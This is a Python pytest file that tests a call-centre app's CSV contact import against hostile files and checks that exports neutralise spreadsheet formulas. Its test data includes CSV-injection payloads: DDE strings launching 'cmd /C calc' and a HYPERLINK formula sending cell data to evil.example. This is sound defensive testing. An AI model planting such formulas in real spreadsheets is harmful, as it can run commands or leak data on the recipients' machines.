"""Hostile CSV files (issue 7, item 8) into a real PostgreSQL, and out again.

A 100 MB file made of an overlong line and an unclosed quote, files in UTF-16 or
plain binary, a header of thousands of columns: bounded memory, a clear refusal
or per-row errors, and nothing imported from a refused file. Then formulas,
DDE payloads and control characters imported as clients come back out as CSV and
XLSX with no cell a spreadsheet would evaluate, the phones as typed digits.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import time
import tracemalloc
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import func, select, text, true
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from callcenter.contact_export import COLUMNS, ExportFormat, write_clients
from callcenter.csv_import import CsvFormatError, ImportReport, import_contacts
from callcenter.models import Company, Contact, ContactPhone, CustomFieldDefinition
from callcenter.spreadsheet import FORMULA_START, is_plain_phone
from tests.reliability_figures import record

pytestmark = pytest.mark.db

MAPPING = {
    "ФИО": "full_name",
    "Телефон": "phone",
    "Компания": "company",
    "Теги": "tags",
    "Примечание": "custom:note",
}
HEADER = "ФИО;Телефон;Компания;Теги;Примечание\n"
MB = 1_000_000


@pytest.fixture(autouse=True)
async def note_field(db: async_sessionmaker[AsyncSession]) -> None:
    async with db.begin() as session:
        session.add(CustomFieldDefinition(entity="contact", key="note", label_ru="Примечание"))


async def count(db: async_sessionmaker[AsyncSession], table: type) -> int:
    async with db() as session:
        return await session.scalar(select(func.count()).select_from(table)) or 0


# ---------------------------------------------------------------- size


def hostile_file(path: Path, size: int) -> None:
    """``size`` bytes: good rows, one endless line, good rows, then an unclosed quote."""
    chunk = b"x" * MB
    with path.open("wb") as out:
        out.write(HEADER.encode())
        for i in range(300):
            out.write(f"Первый{i} Клиент;+7916{i:07d};;;\n".encode())
        for _ in range(size * 2 // 5 // MB):  # one line of 40 % of the file
            out.write(chunk)
        out.write(b"\n")
        for i in range(300):
            out.write(f"Второй{i} Клиент;+7917{i:07d};;;\n".encode())
        # a quote that never closes: the rest of the file would be one cell
        out.write('Последний;+79180000000;;;"начало\n'.encode())
        line = b"embedded line;with;separators;" + b"y" * 970 + b"\n"
        while out.tell() < size:
            out.write(line)


async def import_peak(
    db: async_sessionmaker[AsyncSession], path: Path
) -> tuple[float, ImportReport]:
    tracemalloc.start()
    try:
        report = await import_contacts(db, path, MAPPING, region="RU")
        return tracemalloc.get_traced_memory()[1] / MB, report
    finally:
        tracemalloc.stop()


async def test_a_100_mb_hostile_file_imports_its_good_rows_in_bounded_memory(
    db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    hostile_file(small, 10 * MB)
    hostile_file(large, 100 * MB)
    assert large.stat().st_size >= 100 * MB

    peak_small, _ = await import_peak(db, small)
    async with db.begin() as session:
        await session.execute(text("TRUNCATE contacts, companies CASCADE"))
    started = time.perf_counter()
    peak_large, report = await import_peak(db, large)
    seconds = time.perf_counter() - started

    # the 600 good rows came in; the endless line and the quote are row errors
    assert report.created == 600 and await count(db, Contact) == 600
    problems = {p.message for p in report.errors}
    assert any("longer than" in m for m in problems), problems
    assert any("unreadable CSV" in m for m in problems), problems
    assert report.rows_total == report.created + report.duplicates + report.rejected
    # memory: the same for 10 MB and 100 MB, and far below either
    assert peak_large < peak_small + 5, (peak_small, peak_large)
    assert peak_large < 40, peak_large
    record(
        "hostile_csv",
        bytes=large.stat().st_size,
        peak_mb=round(peak_large, 1),
        peak_mb_10mb_file=round(peak_small, 1),
        seconds=round(seconds, 1),
        rows_created=report.created,
        rows_rejected=report.rejected,
    )


# ---------------------------------------------------------------- encodings, shape


def _good_rows() -> str:
    return HEADER + "".join(f"Клиент {i};8916{i:07d};;;\n" for i in range(50))


REFUSED = {
    "utf-16 with BOM": codecs.BOM_UTF16_LE + _good_rows().encode("utf-16-le"),
    "utf-16 without BOM": _good_rows().encode("utf-16-be"),
    "utf-32": _good_rows().encode("utf-32"),
    "gzip": gzip.compress(_good_rows().encode()),
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40,
    "latin-1 French": ("Nom;Téléphone\n" + "Hélène Gâteau;+33612345678\n" * 50).encode("latin-1"),
    "empty": b"",
    "only blank lines": b"\n\n\r\n",
    "thousands of columns": (";".join(f"c{i}" for i in range(5000)) + "\n").encode()
    + _good_rows().encode(),
}


@pytest.mark.parametrize("kind", REFUSED)
async def test_a_file_in_the_wrong_encoding_or_shape_is_refused_with_nothing_imported(
    db: async_sessionmaker[AsyncSession], kind: str
) -> None:
    with pytest.raises(CsvFormatError) as refused:
        await import_contacts(db, io.BytesIO(REFUSED[kind]), MAPPING, region="RU")
    assert str(refused.value)  # says why, in words
    assert (await count(db, Contact), await count(db, ContactPhone)) == (0, 0)


# ---------------------------------------------------------------- formulas out


DDE = "=cmd|' /C calc'!A0"
HOSTILE_CELLS = [
    DDE,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"Нажми")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1\r\n=2+2",
]


def hostile_import() -> bytes:
    out = io.StringIO()
    # as a spreadsheet saves it: CRLF, so a cell with a CR or LF in it is quoted
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(MAPPING)
    for i, cell in enumerate(HOSTILE_CELLS):
        phone = "+7 495 123-45-6" + str(i)
        writer.writerow([f"{cell} {i}", phone, cell, f"{cell},vip", cell])
    writer.writerow(["Формула в телефоне", "=1+84951234567", "", "", ""])  # a row error
    # a bare CR in an unquoted cell: where the row ends is anyone's guess, a row error
    out.write("Голый\r=1+1;+74951112233;;;\r\n")
    return out.getvalue().encode("utf-8")


def dangerous(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in FORMULA_START and not is_plain_phone(cell)


async def test_formulas_imported_as_clients_come_out_as_harmless_text(
    db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    report = await import_contacts(db, io.BytesIO(hostile_import()), MAPPING, region="RU")
    assert report.created == len(HOSTILE_CELLS)
    assert [(p.row_number, p.column) for p in report.errors] == [(11, "Телефон"), (12, "")]
    problems = io.StringIO()
    report.write_problems_csv(problems)
    for row in list(csv.reader(io.StringIO(problems.getvalue())))[1:]:
        assert not any(dangerous(cell) for cell in row), row
    async with db() as session:  # stored as typed: neutralising is the exports' business
        names = set(await session.scalars(select(Company.name)))
    assert DDE in names

    zone = ZoneInfo("Europe/Moscow")
    as_csv, as_xlsx = tmp_path / "clients.csv", tmp_path / "clients.xlsx"
    async with db() as session:
        assert await write_clients(session, true(), as_csv, ExportFormat.CSV, zone=zone) == 9
        assert await write_clients(session, true(), as_xlsx, ExportFormat.XLSX, zone=zone) == 9

    text_rows = list(csv.reader(io.StringIO(as_csv.read_text("utf-8-sig")), delimiter=";"))
    assert text_rows[0] == list(COLUMNS)
    sheet = openpyxl.load_workbook(as_xlsx).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for row in cells for cell in row)
    phones = COLUMNS.index("Phones")
    in_sheet = [[str(cell.value or "") for cell in row] for row in cells]
    for rows in (text_rows[1:], in_sheet):
        assert len(rows) == len(HOSTILE_CELLS)
        for row in rows:
            assert not any(dangerous(cell) for cell in row), row
            assert is_plain_phone(row[phones]), row[phones]  # "+7495123456N", unquoted
        # the payloads are all there, quoted with an apostrophe rather than dropped
        companies = {str(row[COLUMNS.index("Company")]) for row in rows}
        # (the import trims a name's spaces, tabs and CRs: "\t=1+1" is stored as "=1+1")
        assert {"'" + DDE, "'=1+1"} <= companies, companies
        # a cell of two lines, each a formula: quoted once, at its start (openpyxl reads
        # the CR back as Excel's escape "_x000D_")
        [two_lines] = [c for c in companies if "=2+2" in c]
        assert two_lines.startswith("'=1+1") and two_lines.endswith("\n=2+2")
    assert all(cell.data_type == "s" for row in cells for cell in (row[phones],))
